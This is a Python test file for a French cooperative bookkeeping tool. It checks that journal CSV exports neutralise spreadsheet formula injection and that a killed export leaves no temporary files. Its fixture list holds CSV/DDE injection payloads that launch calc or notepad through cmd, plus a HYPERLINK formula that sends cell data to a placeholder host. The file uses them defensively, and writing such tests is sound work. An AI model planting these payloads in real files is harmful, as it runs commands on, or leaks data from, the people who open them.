"""Hostile exports (issue 8, items 8 and 9): text a spreadsheet would run as a formula is
neutralised in the journal CSV and reads back as it was, and an export killed outright
leaves nothing behind (no temporary file beside the target, no copy of the journal in
$TMPDIR) once the next export has run."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import signal
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path

import pytest

from coopcompta.domain.model import Ecriture, Ligne, Sens
from coopcompta.importers.journal_csv import COLONNES, DEBUTS_DE_FORMULE
from coopcompta.storage import ouvrir

ENTETE = ";".join(COLONNES)
MONTANT = re.compile(r"-?\d+,\d\d")

# Libellés, pièces, classes and cheque numbers that a spreadsheet opening the CSV would
# run: formulas, DDE, a function call after `@`, a sign, and text already quoted once.
HOSTILES = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "'=1+1",
    "''@SUM(A1)",
    "'Noël' à l'école",
]


def _journal(libelles: list[str]) -> str:
    """A journal CSV with one dépense per libellé, pièce and classe hostile too."""
    sortie = io.StringIO()
    w = csv.writer(sortie, delimiter=";", lineterminator="\n")
    w.writerow(COLONNES)
    for k, libelle in enumerate(libelles, 1):
        # Written by hand as a treasurer's spreadsheet would save it: already quoted once.
        texte = "'" + libelle if libelle.lstrip("'").startswith(DEBUTS_DE_FORMULE) else libelle
        w.writerow(
            [f"{10 + k:02d}/09/2025", f"{k}", texte, "depense", "512", "cheque", f"{1000 + k}"]
            + ["", "6068", "12,50", "=CM1" if k % 2 else "@CP", ""]
        )
    return sortie.getvalue()


def _verifier_cellules(texte: str) -> list[list[str]]:
    """Every text cell of the exported journal is inert, every amount a plain number."""
    rangs = list(csv.reader(io.StringIO(texte, newline=""), delimiter=";"))
    assert rangs[0] == list(COLONNES)
    for rang in rangs[1:]:
        for colonne, valeur in zip(COLONNES, rang, strict=True):
            if colonne in ("total", "montant"):
                assert valeur == "" or MONTANT.fullmatch(valeur), (colonne, valeur)
            else:
                assert not valeur.startswith(DEBUTS_DE_FORMULE), (colonne, valeur)
    return rangs


def test_formulas_in_the_journal_csv_are_neutralised_and_read_back_unchanged(
    ledger_path: Path, tmp_path: Path, invoke
):
    saisie = tmp_path / "saisie.csv"
    saisie.write_text(_journal(HOSTILES), encoding="utf-8")
    assert invoke("saisie", "--db", ledger_path, "--fichier", saisie).exit_code == 0
    with ouvrir(ledger_path) as ledger:
        libelles = [e.libelle for e in ledger.ecritures("2025-2026") if e.sens is Sens.DEPENSE]
        classes = {lg.classe for e in ledger.ecritures("2025-2026") for lg in e.ventilation}
    assert libelles == HOSTILES  # the treasurer's text, not the quoting
    assert classes == {"=CM1", "@CP"}

    premier = tmp_path / "journal.csv"
    assert invoke("export", premier, "--db", ledger_path).exit_code == 0
    rangs = _verifier_cellules(premier.read_text(encoding="utf-8"))
    assert rangs[3][2] == "'" + HOSTILES[0]
    assert rangs[8][2] == "''=1+1"  # quoted once more: it reads back with its own quote
    assert rangs[10][2] == "'Noël' à l'école"  # ordinary text keeps its apostrophe as is
    assert rangs[3][9] == "12,50"

    neuve = tmp_path / "neuve.db"
    assert invoke("init", "--db", neuve, "--nom", "Copie", "--exercice", "2025-2026").exit_code == 0
    result = invoke("saisie", "--db", neuve, "--fichier", premier)
    assert result.exit_code == 0, result.output
    second = tmp_path / "journal2.csv"
    assert invoke("export", second, "--db", neuve).exit_code == 0
    assert second.read_bytes() == premier.read_bytes()


def test_a_contre_passation_of_a_hostile_piece_names_it_neutralised(
    ledger_path: Path, tmp_path: Path, invoke
):
    saisie = tmp_path / "saisie.csv"
    saisie.write_text(
        f"{ENTETE}\n12/09/2025;=2;Photos;depense;512;;;;6070;40,00;;\n", encoding="utf-8"
    )
    assert invoke("saisie", "--db", ledger_path, "--fichier", saisie).exit_code == 0
    result = invoke("annuler", "=2", "--db", ledger_path, "--date", "13/09/2025", "--motif", "x")
    assert result.exit_code == 0, result.output
    premier = tmp_path / "journal.csv"
    assert invoke("export", premier, "--db", ledger_path).exit_code == 0
    rangs = _verifier_cellules(premier.read_text(encoding="utf-8"))
    assert [r[1] for r in rangs[1:]] == ["", "", "'=2", rangs[4][1]]
    assert rangs[4][11] == "'=2"  # the cancelled pièce, neutralised as well
    neuve = tmp_path / "neuve.db"
    assert invoke("init", "--db", neuve, "--nom", "Copie", "--exercice", "2025-2026").exit_code == 0
    assert invoke("saisie", "--db", neuve, "--fichier", premier).exit_code == 0
    second = tmp_path / "journal2.csv"
    assert invoke("export", second, "--db", neuve).exit_code == 0
    assert second.read_bytes() == premier.read_bytes()


@pytest.mark.parametrize("libelle", ["\t=1+1", "\r=1+1", "\t", "=", "-", "@", "+"])
def test_a_libelle_that_only_storage_could_hold_is_still_neutral(
    ledger_path: Path, tmp_path: Path, invoke, libelle: str
):
    """Text that entry refuses (a tab, a carriage return) but an older ledger may hold."""
    with ouvrir(ledger_path) as ledger:
        ledger.ajouter(
            Ecriture(
                date=dt.date(2025, 9, 12),
                sens=Sens.DEPENSE,
                libelle=libelle,
                montant=Decimal("12.50"),
                tresorerie="512",
                ventilation=(Ligne("6068", Decimal("12.50")),),
                piece="1",
                exercice="2025-2026",
            )
        )
    sortie = tmp_path / "journal.csv"
    assert invoke("export", sortie, "--db", ledger_path).exit_code == 0
    rangs = _verifier_cellules(sortie.read_bytes().decode("utf-8"))
    assert rangs[-1][2] == "'" + libelle


# -- an export killed outright --------------------------------------------------------------


def _grand_releve(chemin: Path, n: int) -> None:
    debut = dt.date(2025, 9, 1)
    with chemin.open("w", encoding="utf-8", newline="") as f:
        f.write("Date;Libellé;Débit;Crédit\n")
        for i in range(n):
            jour = debut + dt.timedelta(days=i * 364 // n)
            f.write(f"{jour:%d/%m/%Y};CB LIBRAIRIE {i};-{1 + i % 90},{i % 100:02d};\n")


def _coop(*args: object, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "coopcompta", *map(str, args)],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


@pytest.mark.lent
@pytest.mark.parametrize("extension", [".xlsx", ".csv"])
def test_an_export_killed_outright_leaves_nothing_once_the_next_one_has_run(
    tmp_path: Path, extension: str
):
    dossier, tmpdir = tmp_path / "sorties", tmp_path / "tmpdir"
    dossier.mkdir()
    tmpdir.mkdir()
    db = tmp_path / "coop.db"
    env = dict(os.environ, COOP_DB=str(db), TMPDIR=str(tmpdir))
    assert _coop("init", "--nom", "Tuée", "--exercice", "2025-2026", env=env).returncode == 0
    releve = tmp_path / "releve.csv"
    _grand_releve(releve, 60_000)
    assert _coop("import", releve, "--non-interactif", env=env).returncode == 0

    cible = dossier / f"bilan{extension}"
    proc = subprocess.Popen(
        [sys.executable, "-m", "coopcompta", "export", str(cible)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    # Killed while it writes: once its temporary folder holds the file being written
    # (and, for the workbook, openpyxl's copy of the journal).
    fin = time.monotonic() + 120
    prives: list[Path] = []
    while time.monotonic() < fin and proc.poll() is None:
        prives = [p for p in dossier.iterdir() if p.name.endswith(".tmp")]
        if prives and any(f.stat().st_size > 100_000 for f in prives[0].iterdir()):
            break
        time.sleep(0.01)
    assert proc.poll() is None, "l'export a fini avant d'être tué : agrandir le relevé"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert not cible.exists()
    assert [p.name for p in dossier.iterdir()] == [prives[0].name]  # what a kill leaves
    assert list(tmpdir.iterdir()) == []  # no copy of the journal in $TMPDIR

    fini = _coop("export", cible, env=env)
    assert fini.returncode == 0, fini.stderr
    assert [p.name for p in dossier.iterdir()] == [cible.name]
    assert list(tmpdir.iterdir()) == []
